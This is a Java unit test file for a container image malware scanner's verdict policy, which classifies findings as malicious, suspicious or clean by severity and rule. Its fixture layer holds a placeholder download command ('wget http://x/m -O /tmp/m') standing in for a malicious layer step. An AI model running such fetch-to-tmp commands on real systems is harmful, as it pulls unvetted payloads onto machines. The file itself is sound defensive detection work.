package dev.contraband.scan;

import dev.contraband.detect.Category;
import dev.contraband.detect.Finding;
import dev.contraband.detect.LayerRef;
import dev.contraband.detect.Location;
import dev.contraband.detect.Rule;
import dev.contraband.detect.Severity;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class VerdictPolicyTest {
    static Finding finding(String rule, Severity s, Category c) {
        return Finding.of(new Rule(rule, c, s, "t", "d"),
                new Location.File("/x", null, new LayerRef(0, "sha256:" + "a".repeat(64)), false), "m " + rule, null, null, null);
    }

    static final List<LayerSummary> LAYERS = List.of(new LayerSummary(0, "sha256:" + "a".repeat(64), "sha256:" + "b".repeat(64),
            "/bin/sh -c wget http://x/m -O /tmp/m", 10));

    @Test
    void decide_twoHighFromDifferentRules_isMalicious() {
        Verdict v = VerdictPolicy.decide(List.of(finding("a", Severity.HIGH, Category.OTHER),
                finding("b", Severity.HIGH, Category.BACKDOOR)), LAYERS);
        assertThat(v.status()).isEqualTo(Verdict.Status.MALICIOUS);
        assertThat(v.categories()).containsExactly(Category.OTHER, Category.BACKDOOR);
        assertThat(v.explanation()).startsWith("m a (layer 0, `wget http://x/m -O /tmp/m`)").endsWith("and 1 more finding");
    }

    @Test
    void decide_twoHighFromSameRule_isSuspicious() {
        assertThat(VerdictPolicy.decide(List.of(finding("a", Severity.HIGH, Category.OTHER),
                finding("a", Severity.HIGH, Category.OTHER)), LAYERS).status()).isEqualTo(Verdict.Status.SUSPICIOUS);
    }

    @Test
    void decide_critical_isMalicious() {
        assertThat(VerdictPolicy.decide(List.of(finding("a", Severity.CRITICAL, Category.CRYPTOMINING)), LAYERS).status())
                .isEqualTo(Verdict.Status.MALICIOUS);
    }

    @Test
    void decide_onlyLow_isCleanWithoutCategories() {
        Verdict v = VerdictPolicy.decide(List.of(finding("a", Severity.LOW, Category.HACKING_TOOL)), LAYERS);
        assertThat(v.status()).isEqualTo(Verdict.Status.CLEAN);
        assertThat(v.categories()).isEmpty();
    }
}
